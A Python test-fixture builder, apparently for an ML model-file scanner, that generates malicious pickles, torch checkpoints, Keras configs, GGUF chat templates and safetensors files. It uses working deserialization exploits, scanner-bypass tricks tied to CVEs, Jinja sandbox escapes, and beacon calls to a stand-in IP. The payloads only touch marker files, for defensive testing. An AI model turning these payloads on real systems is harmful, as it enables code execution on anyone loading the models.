"""The model-scanner corpus: every attack technique the inspector must flag, each named with its
CVE or source, and realistic benign files it must not flag.

All bytes are generated (pickles with the opcode writers, containers with the byte-faithful
writers). Each payload, if it were ever executed, creates ``<marker_dir>/<sample>.marker``:
tests assert that no marker appears after scanning and collecting.

    samples = build_corpus(root, marker_dir)   # -> list[Sample]
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from mlsleuth.fixturehost.formats import keras_files as K
from mlsleuth.fixturehost.formats import misc_files as M
from mlsleuth.fixturehost.formats import pickles as P
from mlsleuth.fixturehost.formats import sklearn_pickles as S
from mlsleuth.fixturehost.formats import torch_legacy as L
from mlsleuth.fixturehost.formats import torch_zip as Z
from mlsleuth.fixturehost.formats.pickles import Call, Global, TensorSpec

MALICIOUS, SUSPICIOUS, FLAGGED, CLEAN = "malicious", "suspicious", "flagged", "clean"


@dataclass(frozen=True)
class Sample:
    name: str  # path relative to the corpus root
    expect: str  # malicious / suspicious / flagged (any non-clean verdict) / clean
    technique: str
    source: str

    @property
    def benign(self) -> bool:
        return self.expect == CLEAN


class _Builder:
    def __init__(self, root: Path, marker_dir: Path) -> None:
        self.root = root
        self.marker_dir = marker_dir
        self.samples: list[Sample] = []
        self.rng = np.random.default_rng(1234)

    def marker(self, name: str) -> str:
        return str(self.marker_dir / (name.replace("/", "_") + ".marker"))

    def touch(self, name: str) -> str:
        return f"touch {self.marker(name)}"

    def pycode(self, name: str) -> str:
        return f"open({self.marker(name)!r}, 'w').write('executed')"

    def add(self, name: str, data: bytes, expect: str, technique: str, source: str) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.samples.append(Sample(name, expect, technique, source))
        return path

    def record(self, name: str, expect: str, technique: str, source: str) -> None:
        self.samples.append(Sample(name, expect, technique, source))


# -- torch helpers ----------------------------------------------------------------------------
def linear_state() -> dict[str, TensorSpec]:
    return {"fc1.weight": TensorSpec("float32", (16, 8)), "fc1.bias": TensorSpec("float32", (16,)),
            "fc2.weight": TensorSpec("float32", (4, 16)), "fc2.bias": TensorSpec("float32", (4,))}


def cnn_state() -> tuple[dict[str, TensorSpec], dict]:
    t = {"conv1.weight": TensorSpec("float32", (8, 3, 3, 3)), "conv1.bias": TensorSpec("float32", (8,)),
         "bn1.weight": TensorSpec("float32", (8,)), "bn1.bias": TensorSpec("float32", (8,)),
         "bn1.running_mean": TensorSpec("float32", (8,)), "bn1.running_var": TensorSpec("float32", (8,)),
         "bn1.num_batches_tracked": TensorSpec("int64", ()),
         "fc.weight": TensorSpec("float32", (10, 8)), "fc.bias": TensorSpec("float32", (10,))}
    # nn.Module.state_dict records every submodule's _version; BatchNorm2d._version == 2
    meta = {"": {"version": 1}, "conv1": {"version": 1}, "bn1": {"version": 2}, "fc": {"version": 1}}
    return t, meta


def lstm_state() -> dict[str, TensorSpec]:
    h, i = 32, 16
    return {"embedding.weight": TensorSpec("float32", (100, i)),
            "lstm.weight_ih_l0": TensorSpec("float32", (4 * h, i)), "lstm.weight_hh_l0": TensorSpec("float32", (4 * h, h)),
            "lstm.bias_ih_l0": TensorSpec("float32", (4 * h,)), "lstm.bias_hh_l0": TensorSpec("float32", (4 * h,)),
            "head.weight": TensorSpec("float32", (5, h)), "head.bias": TensorSpec("float32", (5,))}


def adam_state(shapes: list[tuple[int, ...]]) -> dict:
    """optimizer.state_dict() of torch.optim.Adam after one step (torch 2.13 layout).

    Per-parameter keys are the same interned strings in torch, hence Shared (BINGET on reuse).
    """
    step, avg, avg_sq = P.Shared("step"), P.Shared("exp_avg"), P.Shared("exp_avg_sq")
    state = {}
    for i, shape in enumerate(shapes):
        state[i] = {step: TensorSpec("float32", ()), avg: TensorSpec("float32", shape),
                    avg_sq: TensorSpec("float32", shape)}
    groups = [{"lr": 0.001, "betas": (0.9, 0.999), "eps": 1e-08, "weight_decay": 0, "amsgrad": False,
               "maximize": False, "foreach": None, "capturable": False, "differentiable": False, "fused": None,
               "decoupled_weight_decay": False, "params": list(range(len(shapes)))}]
    return {"state": state, "param_groups": groups}


def sgd_state(shapes: list[tuple[int, ...]]) -> dict:
    buf = P.Shared("momentum_buffer")
    state = {i: {buf: TensorSpec("float32", s)} for i, s in enumerate(shapes)}
    groups = [{"lr": 0.01, "momentum": 0.9, "dampening": 0, "weight_decay": 0.0005, "nesterov": True,
               "maximize": False, "foreach": None, "differentiable": False, "fused": None,
               "params": list(range(len(shapes)))}]
    return {"state": state, "param_groups": groups}


def torch_file(pickle_bytes: bytes, storages: dict[str, bytes], **kw) -> bytes:
    return Z.torch_checkpoint_bytes(pickle_bytes, storages, **kw)


def _zip_patch(data: bytes, old: bytes, new: bytes, count: int = 2) -> bytes:
    assert data.count(old) >= 1
    return data.replace(old, new, count)


# -- the corpus --------------------------------------------------------------------------------
def build_corpus(root: Path, marker_dir: Path | None = None) -> list[Sample]:
    root = Path(root)
    marker_dir = Path(marker_dir) if marker_dir is not None else root / "_markers"
    marker_dir.mkdir(parents=True, exist_ok=True)
    b = _Builder(root, marker_dir)
    _pickles(b)
    _torch(b)
    _joblib_numpy(b)
    _keras(b)
    _gguf(b)
    _safetensors(b)
    _onnx(b)
    _remote_code(b)
    _benign(b)
    return b.samples


def _pickles(b: _Builder) -> None:
    for proto in range(6):
        n = f"pickle/os_system_p{proto}.pkl"
        b.add(n, P.reduce_call("os", "system", (b.touch(n),), protocol=proto), MALICIOUS,
              f"os.system through GLOBAL/STACK_GLOBAL + REDUCE, pickle protocol {proto}",
              "Python pickle documentation warning; classic REDUCE payload")
    n = "pickle/posix_system.pkl"
    b.add(n, P.reduce_call("posix", "system", (b.touch(n),), protocol=2), MALICIOUS,
          "posix.system (os alias) instead of os.system", "denylist gap: nt/posix aliases (fickling docs)")
    n = "pickle/builtin_exec.pkl"
    b.add(n, P.reduce_call("__builtin__", "exec", (b.pycode(n),), protocol=2), MALICIOUS,
          "__builtin__.exec (Python 2 module name) of source text", "pickle fix_imports names")
    n = "pickle/builtins_eval.pkl"
    b.add(n, P.reduce_call("builtins", "eval", (f"__import__('os').system({b.touch(n)!r})",), protocol=4),
          MALICIOUS, "builtins.eval of an expression", "classic eval payload")
    n = "pickle/getattr_chain.pkl"
    chain = Call(Call(Global("builtins", "getattr"), (Call(Global("builtins", "__import__"), ("os",)), "system")),
                 (b.touch(n),))
    b.add(n, P.dumps(chain, protocol=4), MALICIOUS, "getattr(__import__('os'), 'system')(...) gadget chain",
          "Trail of Bits: 'Never a dill moment' (2021), gadget chains")
    n = "pickle/stack_global_memo.pkl"
    touch = b.touch(n).encode()
    raw = (b"\x80\x04\x8c\x02os\x94\x8c\x05posix\x94\x8c\x06system\x94" b"00"  # memo 0,1,2; drop two
           b"0"  # drop the third too: operands now live only in the memo
           b"\x8c\x07unused!\x94" b"0"
           b"h\x00h\x02\x93" + b"\x8c" + bytes([len(touch)]) + touch + b"\x85R.")
    b.add(n, raw, MALICIOUS, "STACK_GLOBAL operands fetched from the memo (BINGET), not preceding strings",
          "picklescan/modelscan STACK_GLOBAL operand resolution bypasses (2025 advisories)")
    n = "pickle/inst_opcode.pkl"
    b.add(n, b"(V" + b.touch(n).encode() + b"\nios\nsystem\n.", MALICIOUS, "INST opcode (protocol 0) calling os.system",
          "pickletools INST semantics; scanners that only watch REDUCE")
    n = "pickle/obj_opcode.pkl"
    b.add(n, b"\x80\x02(cos\nsystem\nX" + len(b.touch(n)).to_bytes(4, "little") + b.touch(n).encode() + b"o.",
          MALICIOUS, "OBJ opcode calling os.system", "scanners that only watch REDUCE")
    n = "pickle/newobj_popen.pkl"
    b.add(n, P.dumps(P.Reduce(None, (Global("subprocess", "Popen"), ["touch", b.marker(n)]), newobj=True),
                     protocol=4), MALICIOUS, "NEWOBJ instantiating subprocess.Popen", "cls.__new__ gadgets")
    n = "pickle/newobj_ex_popen.pkl"
    newobj_ex = (b"\x80\x04\x8c\nsubprocess\x94\x8c\x05Popen\x94\x93\x94" + b"\x8c\x05touch\x8c"
                 + bytes([len(b.marker(n))]) + b.marker(n).encode() + b"\x86\x85}\x92.")
    b.add(n, newobj_ex, MALICIOUS, "NEWOBJ_EX instantiating subprocess.Popen", "protocol 4 NEWOBJ_EX")
    n = "pickle/runpy_run_module_code.pkl"
    b.add(n, P.reduce_call("runpy", "_run_module_code", (b.pycode(n),), protocol=4), MALICIOUS,
          "runpy._run_module_code executing source", "picklescan denylist bypass via runpy (2025 reports)")
    n = "pickle/pip_main.pkl"
    b.add(n, P.reduce_call("pip", "main", (["--log", b.marker(n), "help"],), protocol=4), MALICIOUS,
          "pip.main (installs packages; here writes a log file)", "picklescan bypass CVE-2025-1716")
    n = "pickle/asyncio_subprocess.pkl"
    shell = Call(Global("asyncio", "create_subprocess_shell"), (b.touch(n),))
    b.add(n, P.dumps(Call(Global("asyncio", "run"), (shell,)), protocol=4), MALICIOUS,
          "asyncio.run(asyncio.create_subprocess_shell(...))", "picklescan asyncio bypass (JFrog 2025, CVE-2025-10157)")
    n = "pickle/operator_methodcaller.pkl"
    mc = Call(Call(Global("_operator", "methodcaller"), ("system", b.touch(n))),
              (Call(Global("importlib", "import_module"), ("os",)),))
    b.add(n, P.dumps(mc, protocol=4), MALICIOUS, "operator.methodcaller('system', cmd)(import_module('os'))",
          "picklescan operator/_operator bypass (2025 reports)")
    n = "pickle/operator_attrgetter.pkl"
    ag = Call(Call(Call(Global("operator", "attrgetter"), ("system",)), (Call(Global("importlib", "import_module"),
                                                                              ("posix",)),)), (b.touch(n),))
    b.add(n, P.dumps(ag, protocol=4), MALICIOUS, "operator.attrgetter chain to posix.system",
          "picklescan operator bypass (2025 reports)")
    n = "pickle/functools_partial.pkl"
    part = Call(Call(Global("functools", "partial"), (Global("os", "system"), b.touch(n))), ())
    b.add(n, P.dumps(part, protocol=4), MALICIOUS, "functools.partial(os.system, cmd)()", "partial over a dangerous target")
    n = "pickle/nullifai_broken.pkl"
    broken = P.reduce_call("os", "system", (b.touch(n),), protocol=2)[:-1] + b"0\x00invalid-tail"
    b.add(n, broken, MALICIOUS, "payload first, then an invalid opcode: loading fails after the payload ran",
          "nullifAI (ReversingLabs, Feb 2025)")
    n = "pickle/second_stream.pkl"
    b.add(n, P.dumps({"weights": [1.0, 2.0]}, 2) + P.reduce_call("os", "system", (b.touch(n),), 2), MALICIOUS,
          "payload in a second pickle after the first STOP", "multi-pickle streams (torch legacy reads five)")
    n = "pickle/nested_pickle_loads.pkl"
    inner = P.reduce_call("os", "system", (b.touch(n),), protocol=4)
    b.add(n, P.reduce_call("pickle", "loads", (inner,), protocol=4), MALICIOUS,
          "pickle.loads of an embedded pickle carrying the payload", "nested pickles (fickling docs)")
    n = "pickle/numpy_runstring.pkl"
    b.add(n, P.reduce_call("numpy.testing._private.utils", "runstring", (b.pycode(n), {}), protocol=4), MALICIOUS,
          "numpy.testing runstring executes source", "picklescan denylist gap (numpy runstring)")
    n = "pickle/cprofile_run.pkl"
    b.add(n, P.reduce_call("cProfile", "run", (b.pycode(n),), protocol=2), MALICIOUS,
          "cProfile.run executes a statement", "profilers as exec gadgets")
    n = "pickle/pdb_run.pkl"
    b.add(n, P.reduce_call("pdb", "run", (b.pycode(n),), protocol=2), MALICIOUS, "pdb.run executes a statement",
          "debuggers as exec gadgets")
    n = "pickle/builtins_open.pkl"
    b.add(n, P.reduce_call("builtins", "open", (b.marker(n), "w"), protocol=4), MALICIOUS,
          "builtins.open(path, 'w'): file creation/truncation", "file write gadget")
    n = "pickle/torch_hub_load.pkl"
    b.add(n, P.reduce_call("torch.hub", "load", ("attacker/repo", "model"), protocol=2), MALICIOUS,
          "torch.hub.load runs a remote hubconf.py", "torch.hub remote code")
    n = "pickle/pandas_read_csv_url.pkl"
    b.add(n, P.reduce_call("pandas", "read_csv", ("http://203.0.113.9/beacon.csv",), protocol=4), MALICIOUS,
          "pandas.read_csv on a URL (beacon / SSRF)", "pandas readers on URLs")
    n = "pickle/webbrowser_open.pkl"
    b.add(n, P.reduce_call("webbrowser", "open", ("http://203.0.113.9/",), protocol=4), MALICIOUS,
          "webbrowser.open launches a program", "denylist gap (webbrowser)")
    n = "pickle/build_attribute_write.pkl"
    build = (b"\x80\x02ccollections\nOrderedDict\nN}X\x08\x00\x00\x00__init__cos\nsystem\nsb0"
             + P.reduce_call("os", "system", (b.touch(n),), protocol=2)[2:])
    b.add(n, build, MALICIOUS, "BUILD on an imported class: overwrite attributes of collections.OrderedDict",
          "state-setting gadget (BUILD on a GLOBAL)")
    n = "pickle/ext_opcode.pkl"
    b.add(n, b"\x80\x02\x82\x07)R.", SUSPICIOUS, "EXT1 opcode: callable from the copyreg extension registry",
          "copyreg extension codes (PEP 307)")
    n = "pickle/unknown_class.pkl"
    b.add(n, P.reduce_call("__main__", "EvilLoader", ("x",), protocol=2), SUSPICIOUS,
          "unknown class (__main__.EvilLoader): not on the allowlist", "allowlist policy")


def _torch(b: _Builder) -> None:
    pk, st = P.benign_state_dict(linear_state())
    evil = lambda name: P.prepend_call(pk, "os", "system", (b.touch(name),))  # noqa: E731
    n = "torch/injected_state_dict.pt"
    b.add(n, torch_file(evil(n), st), MALICIOUS, "os.system injected before a real state dict in data.pkl",
          "fickling inject; Hugging Face model poisoning (JFrog 2024)")
    for n in ("torch/model.bin", "torch/model.ckpt", "torch/weights.tmp", "torch/no_extension",
              "torch/disguised.safetensors"):
        b.add(n, torch_file(evil(n), st), MALICIOUS, f"torch zip under a non-standard name ({Path(n).name})",
              "picklescan extension bypass CVE-2025-1889 / CVE-2025-10155")
    n = "torch/bad_crc.pt"
    data = bytearray(torch_file(evil(n), st))
    i = data.find(b"PK\x01\x02")
    data[i + 16:i + 20] = b"\xde\xad\xbe\xef"  # directory CRC of data.pkl no longer matches
    b.add(n, bytes(data), MALICIOUS, "data.pkl with a wrong CRC-32 (torch does not verify CRCs)",
          "picklescan CVE-2025-10156; modelscan skips zips failing CRC")
    n = "torch/name_mismatch.pt"
    data = torch_file(evil(n), st)
    data = data.replace(b"archive/data.pkl", b"archive/data.pkX", 1)  # local header only
    b.add(n, data, MALICIOUS, "local header names data.pkX while the directory says data.pkl",
          "picklescan CVE-2025-1944")
    n = "torch/flag_bits.pt"
    data = bytearray(torch_file(evil(n), st))
    data[6] |= 0x01  # 'encrypted' bit on the first local header
    i = data.find(b"PK\x01\x02")
    data[i + 8] |= 0x01
    b.add(n, bytes(data), MALICIOUS, "general-purpose flag bits (encrypted) set on a stored data.pkl",
          "picklescan CVE-2025-1945")
    n = "torch/deflated_pickle.pt"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", evil(n))
        z.writestr("archive/version", "3\n")
        for k, v in st.items():
            z.writestr(f"archive/data/{k}", v)
    b.add(n, buf.getvalue(), MALICIOUS, "data.pkl stored deflated (miniz inflates it)", "scanners reading stored members only")
    n = "torch/truncated_no_directory.pt"
    data = torch_file(evil(n), st)
    b.add(n, data[: data.find(b"PK\x01\x02")], MALICIOUS, "central directory cut off (truncated download)",
          "scanners that need zipfile's directory")
    n = "torch/torchscript_from_file.pt"
    code = ("class Model(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
            "  def forward(self: __torch__.Model, x: Tensor) -> Tensor:\n    return x\n"
            "  def __setstate__(self: __torch__.Model, state: Tuple[bool]) -> None:\n"
            f"    _0 = torch.from_file(\"{b.marker(n)}\", True, 64)\n    self.training = (state)[0]\n    return None\n")
    ts_pickle = P.dumps(P.Reduce(None, (Global("__torch__", "Model"),), state=(True,), newobj=True), 2)
    b.add(n, torch_file(ts_pickle, {}, extra_records=[("code/__torch__.py", code.encode()),
                                                      ("constants.pkl", P.dumps((), 2))]),
          MALICIOUS, "TorchScript archive whose __setstate__ calls torch.from_file",
          "torch.load weights_only bypass CVE-2025-32434")
    n = "torch/legacy_magic.pt"
    main, storages = L.legacy_state_dict(linear_state())
    main = P.prepend_call(main, "os", "system", (b.touch(n),))
    b.add(n, L.legacy_magic_bytes(main, storages), MALICIOUS, "payload in the legacy (pre-zip) torch format",
          "torch.save(_use_new_zipfile_serialization=False)")
    n = "torch/legacy_tar.tar"
    b.add(n, L.legacy_tar_bytes(P.reduce_call("os", "system", (b.touch(n),), 2),
                                {"0": ("FloatStorage", b"\0" * 16)}), MALICIOUS,
          "payload in the 'pickle' member of torch's legacy tar format", "modelscan/picklescan: no legacy tar support")
    n = "torch/legacy_tar_storage_header.tar"
    header = P.dumps(("0", "cpu", Global("torch", "FloatStorage")), 2)
    evil_header = P.prepend_call(header, "os", "system", (b.touch(n),))
    st_member = P.dumps(1, 2) + evil_header + (4).to_bytes(8, "little") + b"\0" * 16 + P.dumps([], 2)
    b.add(n, _tar({"sys_info": P.dumps(L.SYS_INFO, 2), "pickle": P.dumps({"w": 1}, 2), "tensors": P.dumps(0, 2),
                   "storages": st_member}), MALICIOUS, "payload in a per-storage header pickle of a legacy tar",
          "torch legacy_load reads every storage header pickle")
    inner = torch_file(evil("torch/wrapped.7z"), st)
    b.add("torch/wrapped.7z", _sevenzip({"model.pt": inner}), FLAGGED,
          "malicious torch file inside a 7z archive (unsupported without py7zr, malicious with it)",
          "nullifAI 7z-wrapped models (ReversingLabs 2025)")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/pytorch_model.bin", torch_file(evil("torch/wrapped.zip"), st))
    b.add("torch/wrapped.zip", zbuf.getvalue(), MALICIOUS, "malicious checkpoint inside a zip", "archive wrappers")
    n = "torch/wrapped.tar.gz"
    b.add(n, gzip.compress(_tar({"model/evil.pkl": P.reduce_call("os", "system", (b.touch(n),), 4)}), mtime=0),
          MALICIOUS, "malicious pickle inside a tar.gz", "archive wrappers")


def _tar(members: dict[str, bytes]) -> bytes:
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _sevenzip(members: dict[str, bytes]) -> bytes:
    try:
        import py7zr
    except ImportError:
        # Signature header only: enough to be recognised as 7z (and reported unsupported).
        return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + b"".join(members.values())
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(data, name)
    return buf.getvalue()


def _joblib_numpy(b: _Builder) -> None:
    n = "joblib/payload_after_array.joblib"
    payload = _ReducePayload("os", "system", (b.touch(n),))
    data = S.joblib_dumps({"coef": np.arange(64, dtype="float64"), "later": payload})
    b.add(n, data, MALICIOUS, "payload pickled after joblib's inline array bytes",
          "scanners that stop at joblib's raw array data")
    n = "joblib/object_array_payload.joblib"
    obj_arr = np.empty(2, dtype=object)
    obj_arr[0] = "ok"
    obj_arr[1] = _ReducePayload("os", "system", (b.touch(n),))
    b.add(n, S.joblib_dumps({"labels": obj_arr}), MALICIOUS,
          "object-dtype array: joblib embeds a protocol-2 pickle carrying the payload", "joblib object arrays")
    n = "joblib/compressed_zlib.joblib"
    data = S.joblib_dumps({"m": S.logistic_regression(b.rng), "x": _ReducePayload("os", "system", (b.touch(n),))})
    b.add(n, zlib.compress(data, 3), MALICIOUS, "zlib-compressed joblib (joblib.dump(compress=3))",
          "compressed joblib payloads")
    n = "joblib/compressed_gzip.pkl.gz"
    b.add(n, gzip.compress(P.reduce_call("os", "system", (b.touch(n),), 4), mtime=0), MALICIOUS,
          "gzip-compressed pickle", "compressed pickles")
    n = "numpy/object_payload.npy"
    b.add(n, _npy_object(P.reduce_call("os", "system", (b.touch(n),), 3)), MALICIOUS,
          "object-dtype .npy whose pickle runs os.system", "numpy.load(allow_pickle=True), CVE-2019-6446")
    n = "numpy/payload_member.npz"
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("weights.npy", _npy(np.arange(6, dtype="float32")))
        z.writestr("meta.npy", _npy_object(P.reduce_call("os", "system", (b.touch(n),), 3)))
    b.add(n, zbuf.getvalue(), MALICIOUS, ".npz with an object-array member carrying a payload",
          "numpy.load(allow_pickle=True) on npz members")


class _ReducePayload:
    """Pickles as ``module.name(*args)`` through reducer names only (never callable here)."""

    def __init__(self, module: str, name: str, args: tuple) -> None:
        self.target = S.fake_class(module, name)
        self.args = args

    def __reduce__(self) -> tuple:
        return (self.target, self.args)


def _npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=False)
    return buf.getvalue()


def _npy_object(pickle_bytes: bytes, shape: tuple = (2,)) -> bytes:
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape!r}, }}"
    header = header + " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode("latin-1") + pickle_bytes


def _keras(b: _Builder) -> None:
    rng = b.rng
    n = "keras/lambda_os_system.h5"
    cfg = K.sequential2([K.dense2("dense", 8), K.lambda2("lambda", f"lambda x: __import__('os').system({b.touch(n)!r}) or x")], 4)
    K.write_keras2_h5(_p(b, n), cfg, K.dense_weights(rng, [4, 8]))
    b.record(n, MALICIOUS, "Lambda layer with marshalled os.system bytecode in HDF5 model_config",
             "Keras CVE-2024-3660; HDF5 ignores safe_mode CVE-2025-9905")
    n = "keras/nested_lambda.keras"
    inner = K.sequential3([K.dense3("dense", 8, 4), K.lambda3("evil_lambda", f"lambda x: __import__('subprocess').run(['touch', {b.marker(n)!r}]) and x")], 4, name="inner")
    outer = {"module": "keras", "class_name": "Functional", "config": {
        "name": "outer", "trainable": True, "layers": [
            {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": inner},
             "registered_name": None}],
        "input_layers": [["input_layer", 0, 0]], "output_layers": [["td", 0, 0]]}, "registered_name": None}
    K.write_keras3(_p(b, n), outer)
    b.record(n, MALICIOUS, "Lambda three levels deep (Functional > TimeDistributed > Sequential)",
             "modelscan reads only top-level layers; CVE-2024-3660")
    n = "keras/module_reference.keras"
    cfg = K.sequential3([K.dense3("dense", 8, 4)], 4)
    cfg["config"]["layers"].append({"module": "os", "class_name": "system", "config": {"command": b.touch(n)},
                                    "registered_name": None})
    K.write_keras3(_p(b, n), cfg)
    b.record(n, MALICIOUS, "config.json layer whose module/class_name resolve to os.system",
             "Keras arbitrary module import CVE-2025-1550")
    n = "keras/gadget_load_model.keras"
    cfg = K.sequential3([K.dense3("dense", 8, 4)], 4)
    cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "unsafe", "function": {"module": "keras.models", "class_name": "function", "config": "load_model",
                                       "registered_name": "function"},
        "arguments": {"safe_mode": False}}, "registered_name": None,
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": "/tmp/attacker/model.keras"}}]})
    K.write_keras3(_p(b, n), cfg)
    b.record(n, MALICIOUS, "Lambda calling keras.models.load_model with safe_mode=False on an attacker file",
             "Keras safe_mode bypass CVE-2025-9906 / CVE-2025-8747")
    n = "keras/tfsmlayer.keras"
    cfg = K.sequential3([K.dense3("dense", 8, 4)], 4)
    cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "TFSMLayer", "config": {
        "name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}, "registered_name": None})
    K.write_keras3(_p(b, n), cfg)
    b.record(n, MALICIOUS, "TFSMLayer loading an attacker SavedModel", "keras-team/keras PR #22035 (TFSMLayer safe_mode bypass)")
    n = "keras/torch_module_wrapper.keras"
    cfg = K.sequential3([K.dense3("dense", 8, 4)], 4)
    cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {
        "name": "tmw", "module": K.b64(torch_file(P.reduce_call("os", "system", (b.touch(n),), 2), {}))},
        "registered_name": None})
    K.write_keras3(_p(b, n), cfg)
    b.record(n, MALICIOUS, "TorchModuleWrapper: torch.load of an embedded module", "Keras TorchModuleWrapper deserialization")
    n = "keras/custom_object.keras"
    cfg = K.sequential3([K.dense3("dense", 8, 4)], 4)
    cfg["config"]["layers"].append({"module": "my_pkg.layers", "class_name": "Scaler", "config": {"name": "s"},
                                    "registered_name": "my_pkg>Scaler"})
    K.write_keras3(_p(b, n), cfg)
    b.record(n, SUSPICIOUS, "custom object from an unknown package", "Keras custom_objects loading")
    n = "keras/savedmodel_pyfunc/saved_model.pb"
    b.add(n, M.saved_model_pb([M.tf_node("x", "Placeholder"), M.tf_node("py", "PyFunc", ["x"]),
                               M.tf_node("w", "WriteFile", ["x"])]), MALICIOUS,
          "SavedModel graph with PyFunc and WriteFile ops", "TensorFlow SECURITY.md: untrusted graphs read/write files")
    n = "keras/savedmodel_lambda/keras_metadata.pb"
    meta = [{"class_name": "Lambda", "config": {"name": "l", "function": [K.lambda_code_b64(
        f"lambda x: __import__('os').system({b.touch(n)!r})"), None, None], "function_type": "lambda"}}]
    b.add(n, M.keras_metadata_pb(meta), MALICIOUS, "Lambda in keras_metadata.pb of a Keras SavedModel",
          "CVE-2024-3660 via SavedModel metadata")


def _p(b: _Builder, name: str) -> Path:
    path = b.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


SSTI_SUBCLASSES = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                   "{{ c('CMD', shell=True) }}{% endif %}{% endfor %}{{ messages[0]['content'] }}")
SSTI_CYCLER = "{{ cycler.__init__.__globals__.os.popen('CMD').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"
SSTI_CONCAT = ("{% set a = '__cla' ~ 'ss__' %}{% set g = '__glo' + 'bals__' %}"
               "{{ (lipsum|attr(g))['os'].popen('CMD') }}{{ ''|attr(a) }}")
CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
LLAMA3 = ("{{- bos_token }}{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
          "{%- set messages = messages[1:] %}{%- else %}{%- set system_message = '' %}{%- endif %}"
          "{%- for message in messages %}{%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
          "{{- raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{%- endif %}"
          "{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}"
          "{%- endfor %}{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")


def _gguf(b: _Builder) -> None:
    tensors = {"token_embd.weight": b.rng.normal(size=(32, 8)).astype("float32")}
    for n, tmpl, tech in (("gguf/ssti_subclasses.gguf", SSTI_SUBCLASSES, "''.__class__.__mro__ ... __subclasses__() -> Popen"),
                          ("gguf/ssti_cycler.gguf", SSTI_CYCLER, "cycler.__init__.__globals__.os.popen"),
                          ("gguf/ssti_concat_attr.gguf", SSTI_CONCAT, "dunder names assembled with ~/+ and |attr")):
        M.write_gguf(_p(b, n), "llama", {"general.name": "tiny", "llama.context_length": 128,
                                        "tokenizer.chat_template": tmpl.replace("CMD", b.touch(n))}, tensors)
        b.record(n, MALICIOUS, f"chat_template sandbox escape: {tech}", "llama-cpp-python SSTI CVE-2024-34359")
    n = "gguf/malformed_kv_count.gguf"
    b.add(n, M.raw_gguf([("general.architecture", *M.gguf_str("llama"))], n_kv=2**62), SUSPICIOUS,
          "metadata count 2^62 in a tiny file", "ggml GGUF parser overflows TALOS-2024-1912..1916")
    n = "gguf/string_length_overflow.gguf"
    b.add(n, M.raw_gguf([], n_kv=1, tail=(2**63).to_bytes(8, "little") + b"general.name"), SUSPICIOUS,
          "key string length 2^63", "ggml GGUF parser overflows TALOS-2024-1912..1916")
    n = "hf/evil_tokenizer/tokenizer_config.json"
    b.add(n, json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>",
                         "chat_template": SSTI_CYCLER.replace("CMD", b.touch(n))}).encode(), MALICIOUS,
          "tokenizer_config.json chat_template escaping the sandbox", "template injection (CVE-2024-34359 family)")


def _safetensors(b: _Builder) -> None:
    b.add("safetensors/header_2pow63.safetensors", M.raw_safetensors(2**63, b'{"a":{}}'), SUSPICIOUS,
          "header length 2^63", "safetensors header length DoS (safetensors MAX_HEADER_SIZE)")
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                      "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}).encode()
    b.add("safetensors/overlapping.safetensors", M.raw_safetensors(len(hdr), hdr, b"\0" * 24), SUSPICIOUS,
          "tensors whose data_offsets overlap", "safetensors validation rules (InvalidOffset)")
    good = M.safetensors_bytes({"w": np.zeros(4, "float32")})
    b.add("safetensors/hidden_tail.safetensors", good + b"import os; os.system('id')" * 4, SUSPICIOUS,
          "bytes after the last tensor that the header does not describe", "hidden payload in unaccounted bytes")
    b.add("safetensors/bad_json.safetensors", M.raw_safetensors(12, b'{"a": [1, 2,'), SUSPICIOUS,
          "header that is not JSON", "safetensors header validation")
    n = "safetensors/pickle_disguised.safetensors"
    b.add(n, P.reduce_call("os", "system", (b.touch(n),), 4), MALICIOUS, "pickle under a .safetensors name",
          "extension-based trust (picklescan CVE-2025-1889 family)")


def _onnx(b: _Builder) -> None:
    w = b.rng.normal(size=(4, 4)).astype("float32")
    node = M.onnx_node("Gemm", ["input", "W"], ["output"])
